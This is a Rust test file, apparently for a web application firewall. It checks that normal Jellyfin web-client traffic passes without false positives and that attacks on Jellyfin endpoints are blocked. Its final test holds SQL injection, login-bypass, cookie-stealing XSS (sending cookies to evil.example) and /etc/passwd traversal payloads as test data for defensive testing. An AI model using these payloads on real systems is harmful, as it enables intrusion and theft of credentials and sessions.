//! Jellyfin's normal traffic (captured from Jellyfin 10.10's web client: login, browsing,
//! search, playback, uploads, the websocket) passes the CRS at paranoia levels 1 and 2 with
//! the built-in Jellyfin exclusions, and attacks on the same endpoints still score.

use portcullis_waf::{AppProfile, Decision, RequestFacts, WafEngine, WafSettings};

use crate::util::engine;

const USER: &str = "4b2c8d0e3f1a4e6b9c7d5e3f1a2b4c6d";
const ITEM: &str = "a1b2c3d4e5f60718293a4b5c6d7e8f90";
const TOKEN: &str = "0123456789abcdef0123456789abcdef";
const AUTH: &str = "MediaBrowser Client=\"Jellyfin Web\", Device=\"Firefox\", \
    DeviceId=\"TW96aWxsYS81LjAgKFgxMTsgTGludXggeDg2XzY0OyBydjoxMjguMCkgR2Vja28vMjAxMDAxMDEgRmlyZWZveC8xMjguMHwxNzMxNjcxMjAwMDAw\", \
    Version=\"10.10.3\", Token=\"0123456789abcdef0123456789abcdef\"";

fn request(method: &str, uri: &str) -> RequestFacts {
    RequestFacts::new(method, uri, "HTTP/1.1")
        .header("Host", "media.example.org")
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        )
        .header("Accept", "application/json, text/plain, */*")
        .header("Accept-Language", "en-US,en;q=0.5")
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
        .header("Authorization", AUTH)
        .header("Referer", "https://media.example.org/web/")
        .header("Sec-Fetch-Mode", "cors")
}

fn with_body(method: &str, uri: &str, content_type: &str, body: &str) -> (RequestFacts, Vec<u8>) {
    let facts = request(method, uri)
        .header("Content-Type", content_type)
        .header("Content-Length", body.len().to_string())
        .header("Origin", "https://media.example.org");
    (facts, body.as_bytes().to_vec())
}

/// Normal Jellyfin traffic.
fn traffic() -> Vec<(RequestFacts, Vec<u8>)> {
    let get = |uri: String| (request("GET", &uri), Vec::new());
    let json =
        |method: &str, uri: String, body: &str| with_body(method, &uri, "application/json", body);
    let jpeg_base64 = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PTgyPC4zNDL/wAALCAABAAEBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAACf/EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AKp//2Q==";
    let srt = "MQowMDowMDowMSwwMDAgLS0+IDAwOjAwOjAzLDAwMApIZWxsbywgd29ybGQhCg==";
    vec![
        get("/web/index.html".into()),
        get("/web/main.jellyfin.bundle.js?0f3c2b1a9e8d7c6b5a49".into()),
        get("/System/Info/Public".into()),
        json(
            "POST",
            "/Users/AuthenticateByName".into(),
            r#"{"Username":"alice","Pw":"c0rrect' horse\" battery; --staple <>"}"#,
        ),
        get(format!("/Users/{USER}/Views?IncludeExternalContent=false")),
        get(format!(
            "/Users/{USER}/Items?SortBy=SortName%2CProductionYear&SortOrder=Ascending\
             &IncludeItemTypes=Movie&Recursive=true\
             &Fields=PrimaryImageAspectRatio%2CMediaSourceCount%2CBasicSyncInfo\
             &ImageTypeLimit=1&EnableImageTypes=Primary%2CBackdrop%2CBanner%2CThumb\
             &StartIndex=0&ParentId={ITEM}&Limit=100"
        )),
        get(format!(
            "/Users/{USER}/Items/Resume?Limit=12&Recursive=true\
             &Fields=PrimaryImageAspectRatio%2CBasicSyncInfo&ImageTypeLimit=1\
             &EnableImageTypes=Primary%2CBackdrop%2CThumb&EnableTotalRecordCount=false\
             &MediaTypes=Video"
        )),
        get(format!(
            "/Items/{ITEM}/Images/Primary?fillHeight=396&fillWidth=264&quality=96&tag=9f8e7d6c5b4a"
        )),
        get(format!(
            "/Users/{USER}/Items?searchTerm=Schindler%27s%20List&Limit=24\
             &Fields=PrimaryImageAspectRatio%2CCanDelete%2CBasicSyncInfo%2CMediaSourceCount\
             &Recursive=true&EnableTotalRecordCount=false&ImageTypeLimit=1\
             &IncludePeople=false&IncludeMedia=true&IncludeGenres=false&IncludeStudios=false\
             &IncludeArtists=false&IncludeItemTypes=Movie"
        )),
        get("/Search/Hints?searchTerm=Mission%3A%20Impossible%20-%20Dead%20Reckoning%20(2023)&Limit=24".into()),
        get("/Search/Hints?searchTerm=Don%27t%20Look%20Up&Limit=24".into()),
        get("/Search/Hints?searchTerm=Alien%20vs.%20Predator&Limit=24".into()),
        json(
            "POST",
            format!(
                "/Items/{ITEM}/PlaybackInfo?UserId={USER}&StartTimeTicks=0&IsPlayback=true\
                 &AutoOpenLiveStream=true&AudioStreamIndex=1&MediaSourceId={ITEM}\
                 &MaxStreamingBitrate=140000000"
            ),
            r#"{"DeviceProfile":{"MaxStreamingBitrate":140000000,"MaxStaticBitrate":100000000,"MusicStreamingTranscodingBitrate":384000,"DirectPlayProfiles":[{"Container":"webm","Type":"Video","VideoCodec":"vp8,vp9,av1","AudioCodec":"vorbis,opus"},{"Container":"mp4,m4v","Type":"Video","VideoCodec":"h264,vp9,av1","AudioCodec":"aac,mp3,opus,flac,vorbis"},{"Container":"opus","Type":"Audio"},{"Container":"webm","AudioCodec":"opus","Type":"Audio"}],"TranscodingProfiles":[{"Container":"ts","Type":"Audio","AudioCodec":"aac","Context":"Streaming","Protocol":"hls","MaxAudioChannels":"2","MinSegments":"1","BreakOnNonKeyFrames":true},{"Container":"ts","Type":"Video","AudioCodec":"aac,mp3","VideoCodec":"h264","Context":"Streaming","Protocol":"hls","MaxAudioChannels":"2","MinSegments":"1","BreakOnNonKeyFrames":true}],"ContainerProfiles":[],"CodecProfiles":[{"Type":"VideoAudio","Codec":"aac","Conditions":[{"Condition":"Equals","Property":"IsSecondaryAudio","Value":"false","IsRequired":false}]},{"Type":"Video","Codec":"h264","Conditions":[{"Condition":"NotEquals","Property":"IsAnamorphic","Value":"true","IsRequired":false},{"Condition":"EqualsAny","Property":"VideoProfile","Value":"high|main|baseline|constrained baseline","IsRequired":false},{"Condition":"EqualsAny","Property":"VideoRangeType","Value":"SDR","IsRequired":false},{"Condition":"LessThanEqual","Property":"VideoLevel","Value":"52","IsRequired":false}]}],"SubtitleProfiles":[{"Format":"vtt","Method":"External"},{"Format":"ass","Method":"External"},{"Format":"ssa","Method":"External"}],"ResponseProfiles":[{"Type":"Video","Container":"m4v","MimeType":"video/mp4"}]}}"#,
        ),
        (
            request(
                "GET",
                &format!(
                    "/Videos/{ITEM}/stream.mkv?Static=true&mediaSourceId={ITEM}\
                     &deviceId=TW96aWxsYS81LjA&api_key={TOKEN}&Tag=5d4c3b2a1f0e"
                ),
            )
            .header("Range", "bytes=0-"),
            Vec::new(),
        ),
        get(format!(
            "/videos/{ITEM}/master.m3u8?DeviceId=TW96aWxsYS81LjA&MediaSourceId={ITEM}\
             &VideoCodec=h264,hevc&AudioCodec=aac,mp3&AudioStreamIndex=1&VideoBitrate=139616000\
             &AudioBitrate=384000&MaxFramerate=23.976025&PlaySessionId=f00dfeed12345678\
             &api_key={TOKEN}&SubtitleMethod=Encode&TranscodingMaxAudioChannels=2\
             &RequireAvc=false&Tag=5d4c3b2a1f0e&SegmentContainer=ts&MinSegments=1\
             &BreakOnNonKeyFrames=True&h264-level=40&h264-videobitdepth=8&h264-profile=high\
             &h264-audiochannels=2&aac-profile=lc&TranscodeReasons=ContainerNotSupported%2C%20AudioCodecNotSupported"
        )),
        get(format!(
            "/videos/{ITEM}/hls1/main/0.ts?DeviceId=TW96aWxsYS81LjA&MediaSourceId={ITEM}\
             &VideoCodec=h264&AudioCodec=aac&PlaySessionId=f00dfeed12345678&api_key={TOKEN}\
             &runtimeTicks=0&actualSegmentLengthTicks=60060000"
        )),
        get(format!(
            "/Audio/{ITEM}/universal?UserId={USER}&DeviceId=TW96aWxsYS81LjA\
             &MaxStreamingBitrate=140000000\
             &Container=opus%2Cwebm%7Copus%2Cmp3%2Caac%2Cm4a%7Caac%2Cm4b%7Caac%2Cflac%2Cwebma%2Cwebm%7Cwebma%2Cwav%2Cogg\
             &TranscodingContainer=ts&TranscodingProtocol=hls&AudioCodec=aac&api_key={TOKEN}\
             &PlaySessionId=1731671200000&StartTimeTicks=0&EnableRedirection=true\
             &EnableRemoteMedia=false"
        )),
        get(format!(
            "/Videos/{ITEM}/{ITEM}/Subtitles/2/0/Stream.vtt?api_key={TOKEN}"
        )),
        json(
            "POST",
            "/Sessions/Playing".into(),
            &format!(
                r#"{{"VolumeLevel":100,"IsMuted":false,"IsPaused":false,"RepeatMode":"RepeatNone","ShuffleMode":"Sorted","MaxStreamingBitrate":140000000,"PositionTicks":0,"PlaybackStartTimeTicks":17316712000000000,"SubtitleStreamIndex":-1,"AudioStreamIndex":1,"BufferedRanges":[],"PlayMethod":"Transcode","PlaySessionId":"f00dfeed12345678","PlaylistItemId":"playlistItem0","MediaSourceId":"{ITEM}","CanSeek":true,"ItemId":"{ITEM}","NowPlayingQueue":[{{"Id":"{ITEM}","PlaylistItemId":"playlistItem0"}}]}}"#
            ),
        ),
        json(
            "POST",
            "/Sessions/Playing/Progress".into(),
            &format!(
                r#"{{"VolumeLevel":100,"IsMuted":false,"IsPaused":true,"PositionTicks":1234567890,"PlayMethod":"DirectPlay","PlaySessionId":"f00dfeed12345678","MediaSourceId":"{ITEM}","CanSeek":true,"ItemId":"{ITEM}","EventName":"pause","BufferedRanges":[{{"start":0,"end":1853333333}}]}}"#
            ),
        ),
        json(
            "POST",
            "/Sessions/Capabilities/Full".into(),
            r#"{"PlayableMediaTypes":["Audio","Video"],"SupportedCommands":["MoveUp","MoveDown","MoveLeft","MoveRight","PageUp","PageDown","PreviousLetter","NextLetter","ToggleOsd","ToggleContextMenu","Select","Back","SendKey","SendString","GoHome","GoToSettings","VolumeUp","VolumeDown","Mute","Unmute","ToggleMute","SetVolume","SetAudioStreamIndex","SetSubtitleStreamIndex","DisplayContent","GoToSearch","DisplayMessage","SetRepeatMode","SetShuffleQueue","ChannelUp","ChannelDown","PlayMediaSource","PlayTrailers"],"SupportsMediaControl":true}"#,
        ),
        (
            request("POST", &format!("/Users/{USER}/FavoriteItems/{ITEM}"))
                .header("Content-Length", "0"),
            Vec::new(),
        ),
        (request("DELETE", &format!("/Users/{USER}/FavoriteItems/{ITEM}")), Vec::new()),
        (
            request(
                "POST",
                &format!("/Users/{USER}/PlayedItems/{ITEM}?datePlayed=20241115T120000"),
            )
            .header("Content-Length", "0"),
            Vec::new(),
        ),
        json(
            "POST",
            format!("/Items/{ITEM}"),
            &format!(
                r#"{{"Id":"{ITEM}","Name":"Inception","OriginalTitle":"Inception","ForcedSortName":"","CommunityRating":"8.8","CriticRating":"87","IndexNumber":null,"ParentIndexNumber":null,"SortName":"inception","DisplayOrder":"","Album":"","AlbumArtists":[],"ArtistItems":[],"Overview":"Dom Cobb (Leonardo DiCaprio) is a skilled thief -- the best there is at stealing secrets from deep within the subconscious during the dream state. His rare ability has made him a coveted player in the world of corporate espionage; it has also cost him everything he has ever loved. Now he's offered a chance at redemption: one last job, \"inception\".","Status":"","AirDays":[],"AirTime":"","Genres":["Action","Science Fiction","Adventure"],"Tags":[],"Studios":[{{"Name":"Legendary Pictures"}},{{"Name":"Syncopy"}}],"PremiereDate":"2010-07-15T00:00:00.000Z","DateCreated":"2024-11-15T12:00:00.000Z","EndDate":null,"ProductionYear":"2010","Video3DFormat":"","OfficialRating":"PG-13","CustomRating":"","People":[{{"Name":"Christopher Nolan","Type":"Director","Role":""}}],"LockData":false,"LockedFields":[],"ProviderIds":{{"Imdb":"tt1375666","Tmdb":"27205"}},"PreferredMetadataLanguage":"","PreferredMetadataCountryCode":"","Taglines":["Your mind is the scene of the crime."]}}"#
            ),
        ),
        with_body(
            "POST",
            &format!("/Items/{ITEM}/Images/Primary"),
            "image/jpeg",
            jpeg_base64,
        ),
        json(
            "POST",
            format!("/Videos/{ITEM}/Subtitles"),
            &format!(
                r#"{{"Language":"eng","Format":"srt","IsForced":false,"IsHearingImpaired":false,"Data":"{srt}"}}"#
            ),
        ),
        (
            request("GET", &format!("/socket?api_key={TOKEN}&deviceId=TW96aWxsYS81LjA"))
                .header("Connection", "keep-alive, Upgrade")
                .header("Upgrade", "websocket")
                .header("Sec-WebSocket-Version", "13")
                .header("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
                .header("Sec-WebSocket-Extensions", "permessage-deflate")
                .header("Origin", "https://media.example.org"),
            Vec::new(),
        ),
    ]
}

fn jellyfin(paranoia: u8) -> WafEngine {
    engine(&WafSettings {
        paranoia_level: paranoia,
        executing_paranoia_level: paranoia,
        app_profile: Some(AppProfile::Jellyfin),
        ..WafSettings::default()
    })
}

fn assert_clean(e: &WafEngine) {
    let mut noisy = Vec::new();
    for (facts, body) in traffic() {
        let line = format!("{} {}", facts.method, facts.uri);
        let mut tx = e.transaction(facts);
        tx.process_request_headers();
        let v = tx.process_request_body(&body);
        if !v.matched.is_empty() || v.decision != Decision::Allow {
            let why: Vec<String> = v
                .matched
                .iter()
                .map(|m| format!("{} {} ({})", m.id, m.variable, m.msg))
                .collect();
            noisy.push(format!("{line}\n    {}", why.join("\n    ")));
        }
    }
    assert!(noisy.is_empty(), "false positives:\n{}", noisy.join("\n"));
}

#[test]
fn normal_jellyfin_traffic_is_clean_at_paranoia_level_1() {
    assert_clean(&jellyfin(1));
}

#[test]
fn normal_jellyfin_traffic_is_clean_at_paranoia_level_2() {
    assert_clean(&jellyfin(2));
}

#[test]
fn attacks_on_jellyfin_endpoints_are_still_blocked() {
    let e = jellyfin(2);
    let attacks = [
        (
            request(
                "GET",
                &format!(
                    "/Users/{USER}/Items?searchTerm=x%27%20UNION%20SELECT%20Password%20FROM%20Users--&Limit=24"
                ),
            ),
            Vec::new(),
        ),
        with_body(
            "POST",
            "/Users/AuthenticateByName",
            "application/json",
            r#"{"Username":"admin' OR '1'='1' --","Pw":"x"}"#,
        ),
        with_body(
            "POST",
            &format!("/Items/{ITEM}"),
            "application/json",
            r#"{"Name":"<script>document.location='https://evil.example/?c='+document.cookie</script>"}"#,
        ),
        (
            request(
                "GET",
                "/Videos/x/stream.mkv?mediaSourceId=../../../../etc/passwd",
            ),
            Vec::new(),
        ),
    ];
    for (facts, body) in attacks {
        let line = format!("{} {}", facts.method, facts.uri);
        let mut tx = e.transaction(facts);
        tx.process_request_headers();
        let v = tx.process_request_body(&body);
        assert!(v.is_blocked(), "{line} was not blocked: {:?}", v.rule_ids());
    }
}
